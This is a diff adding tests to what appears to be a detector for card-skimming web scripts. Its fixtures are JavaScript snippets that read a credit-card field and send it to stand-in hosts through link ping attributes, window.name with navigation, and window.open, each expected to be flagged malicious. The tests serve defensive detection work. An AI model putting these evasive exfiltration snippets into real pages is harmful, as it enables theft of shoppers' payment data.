@@ -231,6 +231,62 @@ describe('sends the first look cannot name', () => {
   })
 })
 
+describe("a link's ping addresses, posted to when the link is followed", () => {
+  const sinks = (source: string): [string, string | undefined][] =>
+    factsOf(source, { sinks: true }).sinks.map((s) => [s.kind, s.urlText])
+  const read = `var d=btoa(document.querySelector('[name=cc_number]').value);var a=document.createElement('a');a.href='#';`
+
+  it.each([
+    ['setAttribute', `a.setAttribute('ping','https://hits.example.test/p?d='+d);a.click()`],
+    ['the ping property', `a.ping='https://hits.example.test/p?d='+d;a.click()`],
+  ])('are a send through %s', (_how, tail) => {
+    expect(sinks(read + tail)).toEqual([['element-src', 'https://hits.example.test/p?d=']])
+    expect(analyzeScript(read + tail).verdict).toBe('malicious')
+  })
+
+  it("a page's own links pinging the shop's analytics with where they lead are not card data", () => {
+    const source = `document.querySelectorAll('a[href^="http"]').forEach(function(l){
+      if (l.host !== location.host) l.setAttribute('ping','/analytics/outbound?to='+encodeURIComponent(l.href))})`
+    expect(analyzeScript(source).verdict).toBe('clean')
+  })
+})
+
+describe("a window's name, which it keeps when it is navigated", () => {
+  const messages = (source: string): (string | undefined)[] =>
+    factsOf(source, { sinks: true })
+      .sinks.filter((s) => s.kind === 'message')
+      .map((s) => s.urlText)
+  const data = `var d=JSON.stringify({n:document.querySelector('#cc_number').value});`
+  const frame = `var f=document.createElement('iframe');document.body.appendChild(f);`
+
+  it.each([
+    [
+      'a frame then given a src',
+      `${frame}f.contentWindow.name=d;f.src='https://far.example.test/r'`,
+    ],
+    [
+      'a frame given its src by setAttribute',
+      `${frame}f.contentWindow.name=d;f.setAttribute('src','https://far.example.test/r')`,
+    ],
+    ['the page, then sent away', `window.name=d;location.href='https://far.example.test/r'`],
+    [
+      'the page, sent away by assign',
+      `self.name=d;window.location.assign('https://far.example.test/r')`,
+    ],
+    ['a window opened under it', `window.open('https://far.example.test/r',d)`],
+  ])('is data handed to the page it goes to: %s', (_how, tail) => {
+    expect(messages(data + tail)).toEqual(['https://far.example.test/r'])
+    expect(analyzeScript(data + tail).verdict).toBe('malicious')
+  })
+
+  it('a name set on a window that goes nowhere, or a window opened under a plain name, sends nothing', () => {
+    expect(messages(`${data}${frame}f.contentWindow.name=d;window.open('/help','_blank')`)).toEqual(
+      ['/help'],
+    )
+    expect(analyzeScript(`${data}${frame}f.contentWindow.name=d`).verdict).not.toBe('malicious')
+  })
+})
+
 describe('a property written through its own setter, not an assignment', () => {
   const send = (write: string): string => `var card = document.querySelector('#cc_number')
     var desc = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src')
